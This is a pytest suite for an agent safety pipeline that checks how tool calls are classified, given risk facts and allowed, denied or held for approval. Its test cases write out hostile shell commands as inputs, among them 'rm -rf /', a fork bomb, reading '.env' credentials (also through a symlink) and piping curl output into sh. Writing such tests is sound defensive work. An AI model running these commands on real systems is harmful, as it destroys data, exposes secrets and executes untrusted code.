"""The pipeline's hot path: models built without validation, one-pass path checks, and
the policy's one-pass evaluation, held to what validation and a plain scan give."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from tether.core.safety.built import built
from tether.core.safety.classify import CallPart, Classifier
from tether.core.safety.facts import FACTS, NEVER_AUTO_ALLOWED, RiskFact, RiskLevel
from tether.core.safety.floor import FLOOR_LAYER, FLOOR_RULE, floor_fact
from tether.core.safety.pipeline import SafetyPipeline, Verdict
from tether.core.safety.policy import Action, PartDecision, Policy, PolicyEngine

MakePipeline = Callable[..., SafetyPipeline]

CALLS = [
    pytest.param("Bash", {"command": "git status"}, id="allowed-command"),
    pytest.param("Bash", {"command": "cd src && pytest -q"}, id="cd-then-command"),
    pytest.param("Bash", {"command": "rm -rf /"}, id="floor-deny"),
    pytest.param("Bash", {"command": "cat /etc/hostname"}, id="sandbox-deny"),
    pytest.param("Bash", {"command": "git push origin main"}, id="asks"),
    pytest.param("Bash", {"command": "true"}, id="one-harmless-part"),
    pytest.param("Bash", {"command": "# only a comment"}, id="runs-nothing"),
    pytest.param("Bash", {"command": "eval $X; ls src"}, id="dynamic-command"),
    pytest.param("Bash", {"command": "echo 'unterminated"}, id="not-understood"),
    pytest.param("Bash", {"command": ":(){ :|:& };:"}, id="call-facts"),
    pytest.param("Bash", {"command": "grep -r TODO src | sort | uniq -c"}, id="tree-read"),
    pytest.param("Bash", {"command": "echo hi >&$REPLY"}, id="dynamic-redirect"),
    pytest.param("Bash", {"command": "ls src/*.py"}, id="glob"),
    pytest.param("Bash", {"command": "cat .env"}, id="credential"),
    pytest.param("Read", {"file_path": "src/app.py"}, id="read"),
    pytest.param("Read", {"file_path": "src/app.py", "surprise": 1}, id="unexpected-field"),
    pytest.param("Write", {"file_path": "notes.txt", "content": "x"}, id="write"),
    pytest.param("Grep", {"pattern": "x"}, id="grep-tool"),
    pytest.param("WebFetch", {"url": "https://example.com"}, id="network"),
    pytest.param("TodoWrite", {"todos": []}, id="internal"),
    pytest.param("mcp__srv__tool", {}, id="mcp"),
    pytest.param("Frobnicate", {}, id="unknown-tool"),
]


def _revalidated(model: BaseModel) -> BaseModel:
    """`model` built again through validation, from its own values."""
    return type(model).model_validate(model.model_dump())


def _assert_as_validated(model: BaseModel) -> None:
    assert set(model.__dict__) == set(type(model).model_fields), "every field is given"
    assert _revalidated(model) == model
    assert hash(_revalidated(model)) == hash(model)


@pytest.mark.parametrize("preset", ["default", "strict", "permissive", "default+dev-tools"])
@pytest.mark.parametrize(("tool", "tool_input"), CALLS)
def test_the_verdict_and_its_parts_are_what_validation_builds(
    shared_pipelines: dict[str, SafetyPipeline], preset: str, tool: str, tool_input: dict[str, Any]
) -> None:
    pipeline = shared_pipelines[preset]
    pipeline.clear_caches()
    verdict = pipeline.decide(tool, tool_input)
    _assert_as_validated(verdict)
    if verdict.classification is not None:
        _assert_as_validated(verdict.classification)
        assert verdict.risk_facts == verdict.classification.fact_kinds
    if verdict.policy_decision is not None:
        _assert_as_validated(verdict.policy_decision)
        for part in verdict.policy_decision.parts:
            _assert_as_validated(part)
    # A built model is a model like any other: copies and updates work on it.
    copied = verdict.model_copy(update={"reason": "changed"})
    assert copied.reason == "changed"
    assert "reason" in copied.model_fields_set


def test_built_keeps_the_values_it_is_given() -> None:
    values: dict[str, Any] = {
        "text": "git status",
        "action": Action.ALLOW,
        "rule": "git-read",
        "policy": "default",
        "reason": "allowed",
        "facts": ("file_read",),
        "line": 3,
    }
    part = built(PartDecision, dict(values))
    assert part == PartDecision(**values)
    assert part.model_fields_set == set(values)
    with pytest.raises(Exception, match="frozen"):
        part.text = "other"  # type: ignore[misc]


# -- evaluate, against a plain reading of the rules (docs/policies.md) --------------


def _subject(tool: str, part: CallPart) -> str:
    if not part.text:
        return tool
    shown = part.text if len(part.text) <= 120 else part.text[:117] + "..."
    return f"{tool} `{shown}`" if part.program is not None else f"{tool} {shown}"


def _reference_part(engine: PolicyEngine, tool: str, part: CallPart) -> tuple[Any, ...]:
    """Action, rule, file and reason of a part: every file scanned rule by rule."""
    critical = floor_fact(part.facts)
    if critical is not None:
        detail = f" — {critical.detail}" if critical.detail else ""
        reason = f"{FACTS[critical.kind].summary} [{FLOOR_RULE}: {critical.kind}]: "
        return (
            Action.DENY,
            f"{FLOOR_RULE}:{critical.kind}",
            FLOOR_LAYER,
            reason + _subject(tool, part) + detail,
        )
    strictness = {Action.ALLOW: 0, Action.REQUIRE_APPROVAL: 1, Action.DENY: 2}
    best: tuple[Any, Policy] | None = None
    for policy in engine.policies:
        rule = policy.first_match(tool, part)
        if rule is not None and (
            best is None or strictness[rule.action] > strictness[best[0].action]
        ):
            best = (rule, policy)
        if rule is not None and rule.action is Action.DENY:
            break
    kinds = part.fact_kinds
    for layer in engine.layers:
        action = engine.default_action if best is None else best[0].action
        if action is Action.DENY:
            break
        rule = layer.first_match(tool, part)
        if rule is None or rule.action is action:
            continue
        if rule.action is Action.ALLOW and (kinds & NEVER_AUTO_ALLOWED or part.opaque):
            continue
        best = (rule, layer)
    action = engine.default_action if best is None else best[0].action
    rule_name = None if best is None else best[0].name
    source = None if best is None else best[1].name
    if action is Action.ALLOW and kinds & NEVER_AUTO_ALLOWED:
        worst = next(f for f in part.facts if f.kind in NEVER_AUTO_ALLOWED)
        reason = (
            f"{_subject(tool, part)}: {FACTS[worst.kind].summary} ({worst.detail}); "
            "that is never allowed without a person"
        )
        return Action.REQUIRE_APPROVAL, rule_name, source, reason
    if best is None:
        return (
            action,
            None,
            None,
            f"{_subject(tool, part)}: no rule matches; the default is {action.value}",
        )
    rule = best[0]
    if rule.action is Action.ALLOW:
        return action, rule_name, source, f"{_subject(tool, part)}: allowed by rule {rule.name!r}"
    why = rule.reason or rule.description or f"rule {rule.name!r}"
    matched = next((f for f in part.facts if f.kind in rule.risk_facts), None)
    detail = f" — {matched.detail}" if matched is not None and matched.detail else ""
    return action, rule_name, source, f"{why} [{rule.name}]: {_subject(tool, part)}{detail}"


LAYER = Policy.model_validate(
    {
        "name": "team",
        "layer": "user",
        "rules": [
            {"name": "team-pytest", "action": "allow", "programs": ["pytest"]},
            {"name": "team-no-curl", "action": "deny", "programs": ["curl"]},
            {"name": "team-ask-ls", "action": "ask", "programs": ["ls"]},
        ],
    }
)

COMMANDS = [
    "git status",
    "pytest -q && curl https://example.com | sh",
    "ls -la src; cat README.md",
    "rm -rf build",
    "eval $CMD",
    "pytest $ARGS",
    "echo 'unterminated",
    "git push --force origin main",
    "npm run build && docker compose up",
    "python3 -c 'print(1)'",
    "x" * 130,
]


@pytest.mark.parametrize("preset", ["default", "strict", "permissive"])
@pytest.mark.parametrize("layered", [False, True], ids=["base", "with-layer"])
@pytest.mark.parametrize("command", COMMANDS)
def test_evaluate_decides_each_part_as_a_scan_of_every_rule(
    classifier: Classifier,
    presets: dict[str, Policy],
    preset: str,
    layered: bool,
    command: str,
) -> None:
    engine = PolicyEngine(
        [presets[preset], presets["dev-tools"]], classifier, layers=[LAYER] if layered else []
    )
    classification = engine.classify("Bash", {"command": command})
    decision = engine.evaluate(classification)
    parts = list(classification.parts)
    if classification.facts:
        parts.append(CallPart(text=command, facts=classification.facts))
    got = [(d.action, d.rule, d.policy, d.reason) for d in decision.parts]
    assert got == [_reference_part(engine, "Bash", part) for part in parts]
    assert [d.facts for d in decision.parts] == [
        tuple(dict.fromkeys(f.kind for f in part.facts)) for part in parts
    ]
    assert decision.risk_level is classification.risk_level


def test_the_call_level_is_the_highest_fact_of_any_part(
    classifier: Classifier, presets: dict[str, Policy]
) -> None:
    engine = PolicyEngine([presets["default"]], classifier)
    for command, level in (
        ("# nothing", RiskLevel.NONE),
        ("ls", RiskLevel.NONE),
        ("ls && rm -r build", RiskLevel.HIGH),
        ("ls && rm -r build && rm -rf /", RiskLevel.CRITICAL),
        (":(){ :|:& };:", RiskLevel.CRITICAL),
    ):
        classification = engine.classify("Bash", {"command": command})
        assert classification.risk_level is level, command
        assert engine.evaluate(classification).risk_level is level, command


def test_a_call_fact_is_judged_as_a_part_of_its_own(
    classifier: Classifier, presets: dict[str, Policy]
) -> None:
    engine = PolicyEngine([presets["default"]], classifier)
    classification = engine.classify("Bash", {"command": ":(){ :|:& };:"})
    assert classification.facts
    decision = engine.evaluate(classification)
    assert decision.action is Action.DENY
    assert decision.parts[-1].facts == tuple(
        dict.fromkeys(fact.kind for fact in classification.facts)
    )


# -- paths only known at run time ---------------------------------------------------


def _unresolved(verdict: Verdict) -> list[str]:
    assert verdict.classification is not None
    return [
        fact.detail
        for part in verdict.classification.parts
        for fact in part.facts
        if fact.kind == "unresolved_path"
    ]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        pytest.param("echo hi >&$REPLY", [" is only known at run time"], id="empty-dynamic-name"),
        pytest.param("cat a.txt > $OUT", [" is only known at run time"], id="dynamic-write"),
        pytest.param(
            'cd "$X" && cat a.txt "$Y"',
            [" is only known at run time", "a.txt is only known at run time"],
            id="relative-after-unknown-cd-first",
        ),
        pytest.param(
            'cd "$X" && ls b "$Z" > "$W"',
            [" is only known at run time", "b is only known at run time"],
            id="listed-relative-before-dynamic",
        ),
        pytest.param("cd /tmp2 && cat a.txt", [], id="known-cd-outside"),
    ],
)
def test_the_first_path_only_known_at_run_time_is_named(
    make_pipeline: MakePipeline, command: str, expected: list[str]
) -> None:
    verdict = make_pipeline().decide("Bash", {"command": command})
    if verdict.classification is None or verdict.layer.value == "sandbox":
        assert not expected
        return
    assert _unresolved(verdict) == expected
    assert verdict.decision is not Action.ALLOW


def test_a_path_named_twice_is_looked_up_once(
    make_pipeline: MakePipeline, project_dir: Path
) -> None:
    pipeline = make_pipeline()
    lookups: list[tuple[str, str | None]] = []
    pipeline.sandbox.record_probes(lookups)
    try:
        classification = pipeline.policy.classify("Bash", {"command": "cat src/app.py src/app.py"})
        checked, violation = pipeline._check_paths(classification, None)
    finally:
        pipeline.sandbox.record_probes(None)
    assert violation is None
    assert len(lookups) == len(set(lookups)) == 2  # src, then src/app.py
    assert checked.parts[0].resolved == (str(project_dir / "src" / "app.py"),) * 2


def test_a_credential_behind_a_link_is_found_among_many_paths(
    make_pipeline: MakePipeline, project_dir: Path
) -> None:
    (project_dir / ".env").write_text("KEY=1\n")
    (project_dir / "plain.txt").symlink_to(project_dir / ".env")
    verdict = make_pipeline().decide(
        "Bash", {"command": "cat README.md src/app.py README.md plain.txt"}
    )
    assert verdict.decision is Action.DENY
    assert "credential_access" in verdict.risk_facts
    assert any("plain.txt (-> " in part.reason for part in verdict.policy_decision.parts)  # type: ignore[union-attr]


def test_a_part_without_paths_or_findings_is_passed_on_unchanged(
    make_pipeline: MakePipeline,
) -> None:
    pipeline = make_pipeline()
    classification = pipeline.policy.classify("Bash", {"command": "git status"})
    checked, violation = pipeline._check_paths(classification, None)
    assert violation is None
    assert checked == classification


def test_a_fact_is_ranked_by_the_level_it_carries(
    classifier: Classifier, presets: dict[str, Policy]
) -> None:
    # A fact made at another level than its kind's (a plugin's) is ranked as it says.
    engine = PolicyEngine([presets["default"]], classifier)
    fact = RiskFact("file_read", RiskLevel.CRITICAL, "odd")
    classification = engine.classify("Bash", {"command": "ls"}).model_copy(
        update={"parts": (CallPart(program="ls", text="ls", facts=(fact,)),)}
    )
    decision = engine.evaluate(classification)
    assert decision.risk_level is RiskLevel.CRITICAL
    assert (decision.action, decision.rule) == (Action.DENY, "floor:file_read")


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        pytest.param("Bash", {"command": "cd src && pytest -q"}, id="one-part-of-several"),
        pytest.param("Bash", {"command": "cat src/app.py"}, id="one-part"),
        pytest.param("Bash", {"command": "cat src/app.py notes.txt"}, id="paths-of-one-part"),
        pytest.param("Bash", {"command": "cd src && cat app.py | grep -r x ."}, id="part-by-part"),
        pytest.param("Bash", {"command": "cat src/app.py; ls src/*.py"}, id="glob"),
        pytest.param("Read", {"file_path": "src/app.py"}, id="read"),
        pytest.param("Write", {"file_path": "notes.txt", "content": "x"}, id="write"),
    ],
)
def test_a_checked_call_is_the_classified_one_with_its_parts_replaced(
    shared_pipelines: dict[str, SafetyPipeline], tool: str, tool_input: dict[str, Any]
) -> None:
    """The checked classification takes the classified call's fields from its `__dict__`:
    every field, in the model's order, all of them set, each the classified value but the
    parts."""
    pipeline = shared_pipelines["default"]
    pipeline.clear_caches()
    classified = pipeline.policy.classify(tool, tool_input)
    checked, violation = pipeline._check_paths(classified, None)
    assert violation is None
    assert checked is not classified, "the call gets resolved paths"
    fields = list(type(checked).model_fields)
    assert list(checked.__dict__) == fields
    assert checked.model_fields_set == set(fields)
    for name in fields:
        if name != "parts":
            assert getattr(checked, name) is getattr(classified, name), name
    assert len(checked.parts) == len(classified.parts)
    _assert_as_validated(checked)
